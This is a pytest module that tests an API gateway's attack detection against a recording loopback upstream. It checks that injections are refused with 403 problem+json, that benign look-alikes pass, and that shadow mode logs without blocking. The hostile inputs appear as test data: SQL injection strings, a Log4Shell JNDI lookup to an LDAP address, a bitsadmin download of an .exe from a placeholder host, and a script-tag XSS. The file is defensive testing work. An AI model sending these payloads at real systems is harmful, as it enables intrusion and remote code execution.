"""Attack detection through the real gateway: blocked attacks never reach the upstream.

A small recording upstream (stdlib ``ThreadingHTTPServer`` on loopback) remembers every
request target and header it received, so each test can prove what got through.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from bastion.testing import GatewayProcess, RawResponse, parse_one_response, raw_request


class _Recorder(BaseHTTPRequestHandler):
    """Answers 200 with a tiny JSON body and records what it saw."""

    seen: list[tuple[str, dict[str, str]]] = []
    lock = threading.Lock()

    def _answer(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        if length:
            self.rfile.read(length)
        with self.lock:
            self.seen.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
        body = b'{"ok":true}'
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = _answer
    do_POST = _answer

    def log_message(self, format: str, *args: Any) -> None:
        return


class Upstream:
    """The recording upstream, with the list of requests it received."""

    def __init__(self) -> None:
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def seen(self) -> list[tuple[str, dict[str, str]]]:
        with _Recorder.lock:
            return list(_Recorder.seen)

    def targets(self) -> list[str]:
        return [target for target, _ in self.seen]


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    """A recording upstream on a free loopback port, stopped after the module."""
    up = Upstream()
    up.thread.start()
    try:
        yield up
    finally:
        up.server.shutdown()
        up.server.server_close()


def gateway_config(upstream_url: str, enforce: bool) -> dict[str, Any]:
    return {
        "access_log": {"path": "access.log"},
        "services": [
            {
                "name": "api",
                "upstream": upstream_url,
                "policies": {"detection": {"enforce": enforce, "paranoia": 1}},
                "routes": [{"path": "/", "prefix": True, "public": True}],
            }
        ],
    }


def get(gw: GatewayProcess, target: str, headers: dict[str, str] | None = None) -> RawResponse:
    lines = [f"GET {target} HTTP/1.1", "Host: api.test", "Connection: close"]
    lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
    data = raw_request("127.0.0.1", gw.port, ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
    return parse_one_response(data)[0]


@pytest.fixture(scope="module")
def blocking(upstream: Upstream) -> Iterator[GatewayProcess]:
    """The gateway with detection in block mode at paranoia 1 on a catch-all route."""
    with GatewayProcess(gateway_config(upstream.url, True)) as gw:
        yield gw


def test_sqli_in_query_is_refused_with_problem_json(blocking: GatewayProcess, upstream: Upstream) -> None:
    """An SQL injection in a query value gets 403 problem+json and never reaches the upstream."""
    reply = get(blocking, "/items?marker=sqli1&id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
    assert reply.status == 403
    assert reply.header("content-type") == "application/problem+json"
    doc = reply.json()
    assert doc["status"] == 403
    assert doc["title"] == "Forbidden"
    assert doc["detail"] == "The request was blocked by the gateway's attack detection."
    assert "UNION" not in reply.body.decode() and "password" not in reply.body.decode()
    assert not any("sqli1" in t for t in upstream.targets())
    record = blocking.wait_for_access_record(lambda r: r.get("status") == 403 and "detection" in r)
    assert record["blocked_by"] == "detection"
    detection = record["detection"]
    assert detection["blocked"] is True
    assert detection["category"] == "sqli"
    hit = next(h for h in detection["hits"] if h["location"] == "query:id")
    assert hit["category"] == "sqli"
    assert isinstance(hit["rule"], int)
    assert 0 < len(hit["snippet"]) <= 40


def test_jndi_in_arbitrary_x_header_is_refused(blocking: GatewayProcess, upstream: Upstream) -> None:
    """A Log4Shell JNDI lookup in a made-up ``X-`` header is blocked before the upstream."""
    reply = get(blocking, "/profile?marker=jndi1", {"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"})
    assert reply.status == 403
    assert reply.header("content-type") == "application/problem+json"
    assert not any("jndi1" in t for t in upstream.targets())
    record = blocking.wait_for_access_record(
        lambda r: (
            r.get("status") == 403
            and any(h["location"] == "header:x-api-version" for h in r.get("detection", {}).get("hits", []))
        )
    )
    assert record["blocked_by"] == "detection"
    hits = record["detection"]["hits"]
    hit = next(h for h in hits if h["location"] == "header:x-api-version" and h["category"] == "jndi")
    assert "jndi" in hit["snippet"]
    assert len(hit["snippet"]) <= 40


def test_command_spanning_path_segments_is_refused(blocking: GatewayProcess, upstream: Upstream) -> None:
    """A command chain placed in a path segment keeps its own slashes (the target parser
    refuses an encoded one), so it spans segments; it is refused as it would be in a query
    value, with the path from its first segment named in the log; an ordinary path with
    the same words passes."""
    reply = get(blocking, "/files/seg1/;%20bitsadmin%20/transfer%20j%20http://files.example.net/a.exe")
    assert reply.status == 403
    assert not any("seg1" in t for t in upstream.targets())
    record = blocking.wait_for_access_record(
        lambda r: (
            r.get("status") == 403
            and any(h["location"] == "path:2.." for h in r.get("detection", {}).get("hits", []))
        )
    )
    assert record["detection"]["category"] == "cmdi"
    ok = "/files/seg2/bitsadmin/transfer/report.pdf"
    assert get(blocking, ok).status == 200
    assert ok in upstream.targets()


def test_benign_apostrophe_passes(blocking: GatewayProcess, upstream: Upstream) -> None:
    """A name with an apostrophe (O'Brien) and prose with SQL words reach the upstream unchanged."""
    target = "/people?marker=benign1&name=O%27Brien&note=select+a+union+rep"
    reply = get(blocking, target)
    assert reply.status == 200
    assert reply.json() == {"ok": True}
    assert target in upstream.targets()


def test_a_request_range_header_is_refused_and_a_range_request_passes(blocking: GatewayProcess,
                                                                     upstream: Upstream) -> None:
    """A GET with the pre-standard ``Request-Range`` header (which range limits do not read)
    is refused with 403 problem+json and never reaches the upstream, logged as the
    ``protocol`` category's rule 17001; the same with the standard ``Range`` is forwarded."""
    reply = get(blocking, "/files/ranged1", {"Request-Range": "bytes=0-1023"})
    assert reply.status == 403
    assert reply.header("content-type") == "application/problem+json"
    assert not any("ranged1" in t for t in upstream.targets())
    record = blocking.wait_for_access_record(lambda r: r.get("status") == 403 and r.get("path") == "/files/ranged1")
    assert record["detection"]["category"] == "protocol"
    assert [(h["rule"], h["location"]) for h in record["detection"]["hits"]] == [
        (17001, "header:request-range")
    ]
    assert get(blocking, "/files/range1", {"Range": "bytes=0-1023"}).status == 200
    assert "/files/range1" in upstream.targets()


def test_shadow_mode_forwards_and_logs(upstream: Upstream) -> None:
    """In shadow mode (``enforce: false``) the same SQL injection reaches the upstream, and the
    log says what would have blocked."""
    with GatewayProcess(gateway_config(upstream.url, False)) as gw:
        target = "/items?marker=mon1&id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
        reply = get(gw, target)
        assert reply.status == 200
        assert target in upstream.targets()
        record = gw.wait_for_access_record(lambda r: "detection" in r)
        assert record["status"] == 200
        assert "blocked_by" not in record
        assert record["detection"]["blocked"] is False
        assert record["detection"]["category"] == "sqli"
        assert {"stage": "detection", "action": "monitor", "reason": "detection.sqli"} in record["decisions"]


def test_openapi_extension_enables_detection(upstream: Upstream) -> None:
    """``x-bastion-detection`` in an OpenAPI document turns detection on for its operations."""
    spec = (
        "openapi: 3.0.3\n"
        "info: {title: t, version: '1'}\n"
        "x-bastion-detection: {paranoia: 1}\n"
        "paths:\n"
        "  /search:\n"
        "    get:\n"
        "      operationId: search\n"
        "      security: []\n"
        "      responses: {'200': {description: ok}}\n"
    )
    config = {
        "access_log": {"path": "access.log"},
        "services": [{"name": "api", "upstream": upstream.url, "openapi": "api.yaml"}],
    }
    with GatewayProcess(config, files={"api.yaml": spec}) as gw:
        attack = get(gw, "/search?marker=oas1&q=%3Cscript%3Ealert(1)%3C/script%3E")
        assert attack.status == 403, attack.body
        assert not any("oas1" in t for t in upstream.targets())
        benign = get(gw, "/search?marker=oas2&q=O%27Brien")
        assert benign.status == 200, benign.body


def test_inputs_vouched_for_by_validation_and_shadow_validation(upstream: Upstream) -> None:
    """A header the OpenAPI document declares as a UUID (an idempotency key, new in every
    request) is not inspected again once valid;
    with validation in shadow mode (``enforce: false``) an attack in it still reaches
    detection, which blocks it."""
    spec = (
        "openapi: 3.1.0\n"
        "info: {title: t, version: '1'}\n"
        "paths:\n"
        "  /items/{id}:\n"
        "    get:\n"
        "      operationId: getItem\n"
        "      security: []\n"
        "      parameters:\n"
        "        - {name: id, in: path, required: true, schema: {type: string, format: uuid}}\n"
        "        - {name: Idempotency-Key, in: header, schema: {type: string, format: uuid}}\n"
        "      responses: {'200': {description: ok}}\n"
    )
    item = "3f2a9c1e-8b7d-4e6f-a1b2-c3d4e5f6a7b8"
    for enforce in (True, False):
        config = {
            "access_log": {"path": "access.log"},
            "services": [{"name": "api", "upstream": upstream.url, "openapi": "api.yaml",
                          "policies": {"validation": {"enforce": enforce},
                                       "detection": {"paranoia": 1}}}],
        }
        with GatewayProcess(config, files={"api.yaml": spec}) as gw:
            ok = get(gw, f"/items/{item}", {"Idempotency-Key": "7d3b1a2e-5c4f-4a8b-9e1d-2f3a4b5c6d7e"})
            assert ok.status == 200, ok.body
            attack = get(gw, f"/items/{item}", {"Idempotency-Key": "1' UNION SELECT password FROM users--"})
            # Enforced, validation refuses the malformed UUID first; in shadow mode it only
            # logs, and detection (which inspects every input of an invalid request) blocks.
            assert attack.status == (400 if enforce else 403), attack.body
            record = gw.wait_for_access_record(lambda r: r.get("status") in (400, 403))
            assert record["blocked_by"] == ("validation" if enforce else "detection")


def post_json(gw: GatewayProcess, target: str, doc: object, content_type: str = "application/json") -> RawResponse:
    body = doc.encode() if isinstance(doc, str) else json.dumps(doc).encode()
    head = (f"POST {target} HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nContent-Type: {content_type}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n")
    return parse_one_response(raw_request("127.0.0.1", gw.port, head.encode() + body))[0]


SNIPPETS_API = (
    "openapi: 3.1.0\n"
    "info: {title: snippets, version: '1'}\n"
    "paths:\n"
    "  /snippets:\n"
    "    post:\n"
    "      operationId: createSnippet\n"
    "      security: []\n"
    "      requestBody:\n"
    "        content:\n"
    "          application/json:\n"
    "            schema:\n"
    "              type: object\n"
    "              properties:\n"
    "                title: {type: string}\n"
    "                code: {type: string, x-bastion-content: code}\n"
    "                readme: {type: string, format: commonmark}\n"
    "      responses: {'200': {description: ok}}\n"
)


def test_declared_code_fields_pass_and_other_fields_are_still_inspected(upstream: Upstream) -> None:
    """Through the gateway, a snippet API whose OpenAPI document declares ``code`` as code and
    ``readme`` as markdown gets its Dockerfile, SQL paste and ``ls -la`` forwarded, while an
    injection in ``title`` is refused before the upstream."""
    config = {
        "access_log": {"path": "access.log"},
        "services": [{"name": "api", "upstream": upstream.url, "openapi": "api.yaml",
                      "policies": {"detection": {"paranoia": 1}}}],
    }
    with GatewayProcess(config, files={"api.yaml": SNIPPETS_API}) as gw:
        benign = [
            {"title": "mark-e2e1",
             "code": "FROM alpine:3.20\nRUN apk add --no-cache curl && rm -rf /var/cache/apk/*\n"},
            {"title": "mark-e2e2", "code": "DROP TABLE IF EXISTS t;\nSELECT * FROM t WHERE a = '' OR 1=1; -- all\n"},
            {"title": "mark-e2e3", "readme": "Check the logs:\n\n```\nls -la /var/log; cat ../app.log\n```\n"},
        ]
        for doc in benign:
            reply = post_json(gw, "/snippets", doc)
            assert reply.status == 200, (doc, reply.body)
        assert len([t for t in upstream.targets() if t == "/snippets"]) >= len(benign)
        before = len(upstream.targets())
        attack = post_json(gw, "/snippets", {"title": "x' UNION SELECT password FROM users--", "code": "print(1)"})
        assert attack.status == 403, attack.body
        assert len(upstream.targets()) == before
        record = gw.wait_for_access_record(lambda r: r.get("status") == 403)
        assert {h["location"] for h in record["detection"]["hits"]} == {"json:$.title"}


def test_graphql_query_syntax_passes_and_its_arguments_are_inspected(blocking: GatewayProcess,
                                                                       upstream: Upstream) -> None:
    """A GraphQL query with ``id`` and ``type`` on their own lines passes as JSON and as
    application/graphql; an injection in an argument is refused."""
    query = "query {\n  order(id: \"ord_1\") {\n    id\n    type\n    cat: category\n  }\n}"
    assert post_json(blocking, "/graphql?marker=gql1", {"query": query}).status == 200
    assert post_json(blocking, "/graphql?marker=gql2", query, "application/graphql").status == 200
    attack = query.replace("ord_1", "1' UNION SELECT password FROM users--")
    assert post_json(blocking, "/graphql?marker=gql3", {"query": attack}).status == 403
    assert post_json(blocking, "/graphql?marker=gql4", attack, "application/graphql").status == 403
    targets = upstream.targets()
    assert "/graphql?marker=gql1" in targets and "/graphql?marker=gql2" in targets
    assert not any("gql3" in t or "gql4" in t for t in targets)


def test_an_empty_content_type_without_a_body_passes(blocking: GatewayProcess, upstream: Upstream) -> None:
    """A GET carrying an empty ``Content-Type`` (some client libraries send one on every
    request) reaches the upstream; a POST whose body is declared by an empty one is still
    refused as not one media type (17002), before the upstream."""
    reply = get(blocking, "/items?marker=emptyct1", {"Content-Type": ""})
    assert reply.status == 200, reply.body
    assert "/items?marker=emptyct1" in upstream.targets()
    attack = post_json(blocking, "/items/emptyct2", "a=1", "")
    assert attack.status == 403, attack.body
    assert not any("emptyct2" in t for t in upstream.targets())
    record = blocking.wait_for_access_record(lambda r: r.get("status") == 403 and r.get("path") == "/items/emptyct2")
    assert (17002, "header:content-type") in {(h["rule"], h["location"]) for h in record["detection"]["hits"]}


MTOM_TYPE = (
    'multipart/related; type="application/xop+xml"; boundary="----=_Part_12_1046382431.1733600000000";'
    ' start="<rootpart@soapui.org>"; start-info="application/soap+xml"; action="urn:example:Upload"'
)


def test_a_soap_mtom_upload_passes_and_an_injection_in_its_parameters_is_refused(blocking: GatewayProcess,
                                                                                 upstream: Upstream) -> None:
    """A SOAP upload with MTOM (Java SOAP stacks' ``multipart/related`` with quoted ``type``,
    ``boundary``, ``start`` parameters) reaches the upstream: the header's quotes and ``;``
    are its syntax, not a string break; an SQL injection in one of its parameters is refused."""
    boundary = "----=_Part_12_1046382431.1733600000000"
    body = (
        f"--{boundary}\r\nContent-Type: application/xop+xml; charset=UTF-8; type=\"application/soap+xml\"\r\n"
        "Content-ID: <rootpart@soapui.org>\r\n\r\n"
        '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
        '<up:Upload xmlns:up="urn:example"><up:file><xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include"'
        ' href="cid:report.pdf"/></up:file></up:Upload></soap:Body></soap:Envelope>\r\n'
        f"--{boundary}\r\nContent-Type: application/pdf\r\nContent-ID: <report.pdf>\r\n\r\n%PDF-1.7\r\n"
        f"--{boundary}--\r\n"
    )
    reply = post_json(blocking, "/soap?marker=mtom1", body, MTOM_TYPE)
    assert reply.status == 200, reply.body
    assert "/soap?marker=mtom1" in upstream.targets()
    attack_type = MTOM_TYPE.replace("urn:example:Upload", "x' UNION SELECT password FROM users--")
    attack = post_json(blocking, "/soap?marker=mtom2", body, attack_type)
    assert attack.status == 403, attack.body
    assert not any("mtom2" in t for t in upstream.targets())
